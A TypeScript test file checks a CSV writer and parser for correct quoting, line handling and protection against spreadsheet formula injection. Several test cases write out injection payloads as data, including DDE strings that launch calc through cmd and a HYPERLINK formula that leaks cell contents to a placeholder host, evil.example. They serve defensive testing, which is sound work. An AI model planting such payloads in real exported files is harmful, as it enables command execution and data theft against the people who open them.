import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { parseCsv, unguardFormula } from '../../src/domain/csv-read.ts';
import { csvCell, guardFormula, toCsv } from '../../src/domain/csv.ts';
import { runs } from './runs.ts';

const nasty = fc
  .array(fc.constantFrom(...Array.from(`a1=+-@＝﹢'", ;|\t\r\n\0\u00a0\u200b\u202e\ufeff`)), {
    maxLength: 8,
  })
  .map((letters) => letters.join(''));

describe('writing', () => {
  test.each([
    ['plain', 'plain'],
    ['a,b', '"a,b"'],
    ['a"b', '"a""b"'],
    ['a\nb', '"a\nb"'],
    ['a\rb', '"a\rb"'],
    ['=1+1', "'=1+1"],
    ['+1', "'+1"],
    ['-1', "'-1"],
    ['@SUM', "'@SUM"],
    ['＝1', "'＝1"],
    [' =1', "' =1"],
    ["'=1", "''=1"],
    ['"=1"', '"""=1"""'],
    ["=cmd|'/C calc'!A0", "'=cmd|'/C calc'!A0"],
    ["@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"],
    [
      '=HYPERLINK("https://evil.example?"&A1,"x")',
      `"'=HYPERLINK(""https://evil.example?""&A1,""x"")"`,
    ],
    ['\r=1', `"'\r=1"`],
    ['\u200b=1', "'\u200b=1"],
    ['\u202e\0-1', "'\u202e\0-1"],
    ['﹣1', "'﹣1"],
    ['\tx', "'\tx"],
    ["it's", "it's"],
    ["'quoted'", "'quoted'"],
    ['a=1', 'a=1'],
    [-5, '-5'],
    [1e21, '1e+21'],
    [-0.5, '-0.5'],
    [null, ''],
  ])('%j is %j', (value, cell) => {
    expect(csvCell(value)).toBe(cell);
  });

  test('every row ends with CRLF', () => {
    expect(
      toCsv([
        ['a', 1],
        [null, 'b'],
      ]),
    ).toBe('a,1\r\n,b\r\n');
    expect(toCsv([])).toBe('');
  });

  test('law: no cell starts a formula, quoted or not', () => {
    fc.assert(
      fc.property(nasty, (text) => {
        const [record] = parseCsv(csvCell(text));
        const cell = record?.cells[0] ?? '';
        expect(cell).not.toMatch(/^[\s\p{C}\p{Z}]*[=+\-@＝＋－＠﹦﹢﹣﹫]/u);
        expect(cell).not.toMatch(/^[\t\r\n]/);
      }),
    );
  });

  test('law: numbers stay numbers', () => {
    fc.assert(
      fc.property(fc.double({ noNaN: true, noDefaultInfinity: true }), (value) => {
        // Zero has only one spelling.
        expect(Number(csvCell(value))).toBe(value + 0);
      }),
    );
  });

  test('law: reading removes exactly the guards that writing added', () => {
    fc.assert(
      fc.property(nasty, (text) => {
        expect(unguardFormula(guardFormula(text))).toBe(text);
        if (guardFormula(text) === text) expect(unguardFormula(text)).toBe(text);
      }),
      { numRuns: runs(2000) },
    );
  });
});

describe('reading', () => {
  test('law: reading restores the written rows, whatever delimiters the text contains', () => {
    const rows = fc.array(fc.array(nasty, { minLength: 1, maxLength: 4 }), { maxLength: 5 });
    fc.assert(
      fc.property(rows, (table) => {
        const read = parseCsv(toCsv(table)).map((record) => record.cells.map(unguardFormula));
        expect(read).toEqual(table);
      }),
      { numRuns: runs(1000) },
    );
  });

  test('any line break ends a record, and line numbers include line breaks in quotes', () => {
    expect(parseCsv('a,b\r\n"c\nd\r\ne"\rf\n\ng')).toEqual([
      { cells: ['a', 'b'], line: 1, raw: 'a,b' },
      { cells: ['c\nd\r\ne'], line: 2, raw: '"c\nd\r\ne"' },
      { cells: ['f'], line: 5, raw: 'f' },
      { cells: [''], line: 6, raw: '' },
      { cells: ['g'], line: 7, raw: 'g' },
    ]);
  });

  test('other delimiters can be set', () => {
    expect(parseCsv('a;b,c', ';')[0]?.cells).toEqual(['a', 'b,c']);
  });

  test('an unclosed quote extends to the end, and text after a closed one is kept', () => {
    expect(parseCsv('"a\nb').map((record) => record.cells)).toEqual([['a\nb']]);
    expect(parseCsv('"a"b,c"d').map((record) => record.cells)).toEqual([['ab', 'c"d']]);
    expect(parseCsv('a,').map((record) => record.cells)).toEqual([['a', '']]);
    expect(parseCsv('"a""').map((record) => record.cells)).toEqual([['a"']]);
  });

  test('law: it never throws and loses nothing: the records add up to the text', () => {
    fc.assert(
      fc.property(nasty, (text) => {
        const raws = parseCsv(text)
          .map((record) => record.raw)
          .join('\n');
        const withLf = (each: string) => each.replace(/\r\n|\r/g, '\n');
        expect([withLf(raws), `${withLf(raws)}\n`]).toContain(withLf(text));
      }),
      { numRuns: runs(2000) },
    );
  });
});
